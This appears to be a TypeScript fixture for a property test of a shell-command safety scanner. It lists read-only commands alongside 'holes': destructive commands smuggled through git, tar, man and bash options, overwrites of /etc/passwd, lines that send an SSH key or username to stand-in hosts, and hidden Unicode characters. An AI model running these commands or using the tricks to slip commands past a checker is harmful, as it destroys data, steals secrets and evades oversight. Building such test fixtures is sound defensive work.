/**
 * Building blocks for the property test: commands the scanner proves read-only, and one
 * representative of every false-safe class and recall case of issue 16 (decision notes
 * 0021–0023). A composition containing any hole must never come out safe.
 */
export const SAFE_COMMANDS = [
  'kubectl get pods -n shop -o wide',
  'oc get nodes',
  'ls -la /var/log',
  'df -h',
  'cat /etc/hosts',
  'grep -i error /var/log/syslog',
  'echo done',
  'uptime',
  'journalctl -u nginx --since "1 hour ago" --no-pager',
  'git log --oneline -5',
  'aws ec2 describe-instances --query "Reservations[].Instances[].InstanceId" --output text',
  'curl -s http://localhost:8080/health',
  'ps aux',
  'free -m',
  'ss -tulpn',
  'dig +short example.com',
  'helm list -A',
  'docker ps',
  'systemctl status nginx',
  'tail -n 50 /var/log/nginx/error.log',
] as const;

/** Holes that are whole commands (they may contain `;`, quotes or functions). */
export const HOLES: ReadonlyArray<{ cls: string; cmd: string }> = [
  { cls: '1 help flags', cmd: 'helm upgrade api ./chart --version 1.2.3' },
  { cls: '1 help flags', cmd: 'kubectl delete ns prod --help' },
  { cls: '1 help flags', cmd: 'aws s3 rm s3://b --recursive --version' },
  { cls: '2 global options', cmd: "git -c core.pager='rm -rf /srv' log" },
  { cls: '2 global options', cmd: 'git --exec-path=/tmp/evil status' },
  { cls: '2 global options', cmd: 'git --git-dir=/tmp/x log' },
  { cls: '3 program options', cmd: "rg --pre 'rm -rf /srv' pattern" },
  { cls: '3 program options', cmd: "tar --to-command='rm -rf /srv' -xf a.tar" },
  { cls: '3 program options', cmd: 'sort --compress-program=/tmp/x big.txt' },
  { cls: '3 program options', cmd: 'git diff --ext-diff' },
  { cls: '3 program options', cmd: "man -P 'rm -rf /srv' ls" },
  { cls: '4 write options', cmd: 'base64 -o /etc/passwd file' },
  { cls: '4 write options', cmd: 'sort -o /etc/passwd file' },
  { cls: '4 write options', cmd: 'curl -o /usr/local/bin/x http://x' },
  { cls: '4 write options', cmd: 'openssl enc -d -in a -out /etc/passwd' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, written literally
  { cls: '5 expansions', cmd: 'echo ${x@P}' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, written literally
  { cls: '5 expansions', cmd: 'echo "${y=\'`rm -rf /srv`\'}"' },
  { cls: '5 expansions', cmd: "a='b[$(id)]'; echo $((a))" },
  { cls: '5 expansions', cmd: "PS4='$(rm -rf /srv)' bash -x -c ls" },
  { cls: '5 expansions', cmd: 'BASH_ENV=/tmp/x bash -c ls' },
  { cls: '6 functions', cmd: 'ls() { rm -rf /srv; }; ls' },
  { cls: '6 functions', cmd: "f() { sh; }; echo 'rm -rf /srv' | f" },
  { cls: '8 exfiltration', cmd: 'dig $(whoami).evil.example' },
  { cls: '8 exfiltration', cmd: 'curl "http://x.example/$(cat ~/.ssh/id_rsa)"' },
  { cls: 'recall http', cmd: 'curl -X DELETE https://api.example.com/items/42' },
  { cls: 'recall http', cmd: "curl -X POST 'localhost:9200/idx/_delete_by_query' -d '{}'" },
  { cls: 'recall verbs', cmd: 'acmectl queue purge jobs' },
  { cls: 'recall payloads', cmd: 'python -c "import os; os.system(\'rm -rf /srv\')"' },
  { cls: 'recall payloads', cmd: "echo 'rm -rf /srv' | sh" },
  { cls: 'recall git', cmd: 'git push --force-with-lease origin main' },
  { cls: 'recall copies', cmd: 'scp app.conf root@host:/etc/app.conf' },
];

/** Characters bash reads differently than they are shown (class 7). */
export const HIDDEN_CHARACTERS = [
  '\r',
  '\v',
  '\f',
  '\x1b[2J',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00a0',
  '\u2013',
  '\u201c',
  '\u0441',
];
